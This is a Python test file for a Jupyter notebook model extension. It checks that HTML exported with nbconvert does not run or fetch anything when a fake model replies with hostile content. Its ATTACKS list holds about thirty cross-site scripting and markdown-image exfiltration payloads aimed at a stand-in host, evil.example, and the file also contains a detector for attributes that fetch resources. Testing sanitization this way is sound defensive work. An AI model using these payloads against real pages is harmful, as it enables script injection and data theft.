"""A model whose every word is an attack: in what nbconvert makes of the saved notebook nothing runs, nothing calls out.

(JupyterLab's proof is in `labextension/ui-tests`: Chromium's own log of requests.)
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import nbconvert
import nbformat
import pytest
from desk import environment
from fakes.provider import Answer, FakeProvider, refuse
from headless import Told
from nbformat.v4 import new_code_cell, new_notebook

if TYPE_CHECKING:
    from pathlib import Path

EVIL = "evil.example"
ATTACKS = [
    f"<script>fetch('https://{EVIL}/s')</script>",
    f"<img src=https://{EVIL}/i.png onerror=alert(1)>",
    f"<iframe src='//{EVIL}/f'></iframe><object data='//{EVIL}/o'></object><embed src='//{EVIL}/e'>",
    f"<svg onload=alert(1)><image href='https://{EVIL}/v'/><use href='https://{EVIL}/u#x'/></svg>",
    f"<style>@import url(https://{EVIL}/c.css); body {{ background: url(https://{EVIL}/b) }}</style>",
    f"<link rel=stylesheet href=https://{EVIL}/l.css><meta http-equiv=refresh content='0;url=https://{EVIL}'>",
    f"<base href=https://{EVIL}/><form action=https://{EVIL}/p><input type=submit></form>",
    f"<video poster=https://{EVIL}/p src=https://{EVIL}/m></video><audio src=//{EVIL}/a autoplay>",
    f"<div style='background:url(https://{EVIL}/d)'>x</div><p onmouseover=alert(1)>y",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=//{EVIL}/mx onerror=alert(1)>'>",
    f"![a](https://{EVIL}/p.png?d=secret) ![b][r] ![c](//{EVIL}/q 'title')\n\n[r]: https://{EVIL}/r.png",
    f"[![nested](https://{EVIL}/n.png)](https://{EVIL}/click)",
    f"![x](<https://{EVIL}/a b.png>) !\\[y](https://{EVIL}/e) !&#91;z](https://{EVIL}/z)",
    "[click](javascript:alert(1)) [c](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)> [d](data:text/html,<script>1)",
    "[v](vbscript:x) [t](\tjavascript:alert(1)) [n](java\nscript:alert(1)) [e](&#x6A;avascript:alert(1))",
    f'[title](https://ok.example "x\'><img src=https://{EVIL}/t>")',
    f"`code` <!-- --><img src=https://{EVIL}/k> <!--><script>alert(1)</script>-->",
    f"```html\n<img src=https://{EVIL}/fence>\n```\n<img src=https://{EVIL}/after>",
    f"```html <img src=https://{EVIL}/info onerror=alert(1)>\nx\n```",
    f"~~~\nunclosed\n```\n<script>fetch('https://{EVIL}/u')</script>",
    f"    indented <img src=https://{EVIL}/in>\n\n- item\n  <img src=https://{EVIL}/li>\n\n> <img src=https://{EVIL}/q>",
    f"| a | b |\n|--|--|\n| <img src=https://{EVIL}/td> | ![x](https://{EVIL}/t2.png) |",
    f"$\\href{{javascript:alert(1)}}{{x}}$ $$\\includegraphics{{https://{EVIL}/g}}$$ $</span><img src=//{EVIL}/mj>$",
    f"\\(<img src=https://{EVIL}/paren>\\) \\[<script>alert(1)</script>\\] $x < y$<img src=//{EVIL}/lt>",
    f'<a href="https://ok.example" ping="https://{EVIL}/ping">a</a> <a\nhref=javascript:alert(1)>b</a>',
    f"\u202e<img/src=//{EVIL}/rtl>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    f"<details open ontoggle=alert(1)><summary>s</summary><portal src=//{EVIL}/po></portal></details>",
    f"[ref]: https://{EVIL}/x 'y'\n![ref] ![ref][] ![][ref]\n\n[^1]: <img src=//{EVIL}/fn>\n\nnote[^1]",
    f"&lt;img src=https://{EVIL}/ent&gt; &#60;script>alert(1)&#60;/script>",
    f"```mermaid\nflowchart TD\n  A[<img src=https://{EVIL}/me>] --> B\n  C@{{ img: 'https://{EVIL}/m2' }}\n```",
    f"```mermaid\n%%{{init: {{'themeCSS': 'a{{background:url(https://{EVIL}/m3)}}'}}}}%%\ngraph TD\n</pre><b>\n```",
    f"</div></div></body><script src=https://{EVIL}/close.js></script>",
]
FORMS = ("", "--as text", "--as code", "--as json", "--think")
HARMLESS = ["Nothing to see *here*, `code` too.\n\n```python\nx = 1\n```"] * len(ATTACKS)
FETCHES = {
    "action",
    "archive",
    "background",
    "data",
    "formaction",
    "href",
    "manifest",
    "ping",
    "poster",
    "src",
    "srcset",
}
PLAIN = {
    "a", "abbr", "b", "blockquote", "body", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5",
    "h6", "head", "hr", "html", "i", "li", "main", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup",
    "table", "tbody", "td", "th", "thead", "title", "tr", "ul",
}  # fmt: skip


class Active(HTMLParser):
    """What in a page runs, fetches or leads anywhere, one line each."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.links: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """A tag that isn't plain, an attribute that acts."""
        if tag not in PLAIN:
            self.found.add(f"<{tag}> {sorted(attrs, key=str)}")
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if tag == "a" and name == "href" and re.match(r"(?:https?:)?//|#|mailto:", value):
                self.links.add(value)
            elif name == "class" and "mermaid" in value:  # a script of the page draws it
                self.found.add(f"<{tag} class={value}>")
            elif name.startswith("on") or name.rpartition(":")[2] in FETCHES:
                self.found.add(f"<{tag} {name}={value}>")
            elif name == "style" and re.search(r"url\(|image-set|@import|expression|behavior", value):
                self.found.add(f"<{tag} style={value}>")


def run(home: Path, answers: list[str]) -> nbformat.NotebookNode:
    """Ask for each answer once, in turn as each form, and for all of them in one; fail with one in the error."""
    home.mkdir()
    sources = [f"%%qwen --context none {FORMS[n % len(FORMS)]}\nSay something!" for n in range(len(answers))]
    sources += ["%%qwen --context none --think\nSay all!", "x = %qwen --context none and again", "%%qwen\nFail!"]
    notebook = new_notebook(cells=[new_code_cell(source) for source in ("%load_ext qwen_magics", *sources)])
    path = home / "notebook.ipynb"
    nbformat.write(notebook, path)
    every = "\n\n".join(answers * 3)
    with FakeProvider() as provider:
        provider.enqueue(*(said(text, answers[n - 1]) for n, text in enumerate(answers)))
        provider.enqueue(said(every, every), said(every, ""), refuse(400, "invalid", answers[1] + answers[0]))
        env = environment(home, provider) | {"QWEN_MAGICS_GUARD_TURN": "5 USD"}
        return Told(notebook, path, env, allow_errors=True).run()


def said(text: str, thinking: str) -> Answer:
    """In small pieces, with an id that is an attack too."""
    pieces = tuple(text[at : at + 7] for at in range(0, len(text), 7))
    return Answer(text=pieces, thinking=(thinking,), headers={"X-Request-Id": f"'\"><img src=//{EVIL}/id>"})


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The same notebook answered by an attacker and by nobody in particular, and both as HTML."""
    home = tmp_path_factory.mktemp("adversarial")
    made: dict[str, Any] = {}
    for name, answers in (("attacked", ATTACKS), ("harmless", HARMLESS)):
        notebook = run(home / name, answers)
        exporter = nbconvert.HTMLExporter()
        page, _ = exporter.from_notebook_node(notebook)
        made[name] = (notebook, page, Active(page))
    return made


def test_nothing_runs_and_nothing_is_fetched_that_a_harmless_answer_would_not(pages: dict[str, Any]) -> None:
    attacked, harmless = pages["attacked"][2], pages["harmless"][2]
    assert harmless.found  # the template's own style and scripts
    assert sorted(attacked.found - harmless.found) == []
    assert any(EVIL in link for link in attacked.links)  # pictures have become links that people may follow


def test_the_attacks_were_shown(pages: dict[str, Any]) -> None:
    """Or nothing would have been tried: each stands in the notebook as the model gave it."""
    notebook = pages["attacked"][0]
    plain = [output.data["text/plain"] for cell in notebook.cells for output in cell.outputs if "data" in output]
    for attack in ATTACKS:
        assert attack in plain
    assert any(len(cell.outputs) > 3 for cell in notebook.cells)  # one in several parts
    assert notebook.cells[-1].outputs[-1].ename == "BadRequest"


def test_no_saved_markdown_holds_a_picture_from_elsewhere_or_a_tag(pages: dict[str, Any]) -> None:
    """GitHub and others render it too."""
    for cell in pages["attacked"][0].cells:
        for output in cell.outputs:
            page = nbconvert.filters.markdown2html(output.get("data", {}).get("text/markdown", ""))
            assert sorted(Active(page).found) == []
